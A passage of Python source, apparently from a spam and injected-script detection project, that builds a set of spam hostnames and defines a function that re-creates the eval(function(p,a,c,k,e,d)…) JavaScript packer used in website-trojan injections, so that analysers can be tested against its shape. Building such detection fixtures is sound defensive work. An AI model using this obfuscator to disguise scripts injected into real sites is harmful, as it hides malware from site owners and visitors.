# site by where it is sent, not by a page it may never get.
SPAM_HOSTS = frozenset(
    host for _text, url in c.SPAM_LINKS for host in (url.split("/")[2], url.split("/")[2].replace("www.", "m.", 1))
)


_WORD = re.compile(r"\b\w+\b")


def _base36(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while True:
        n, r = divmod(n, 36)
        out = digits[r] + out
        if not n:
            return out


def packed_loader(source: str) -> str:
    """Obfuscate ``source`` the way the common ``eval(function(p,a,c,k,e,d)…)`` packer does (base 36 word codes).

    Written out here because 挂马 injections carry exactly this loader, and the analysers look for its shape.
    """
    words = _WORD.findall(source)
    ranked = sorted(dict.fromkeys(words), key=lambda w: -words.count(w))
    codes = {word: _base36(i) for i, word in enumerate(ranked)}
    packed = _WORD.sub(lambda m: codes[m.group(0)], source).replace("\\", "\\\\").replace("'", "\\'")
    dictionary = "|".join(word if codes[word] != word else "" for word in ranked)
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
        "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{packed}',36,{len(ranked)},'{dictionary}'.split('|'),0,{{}}))"
    )
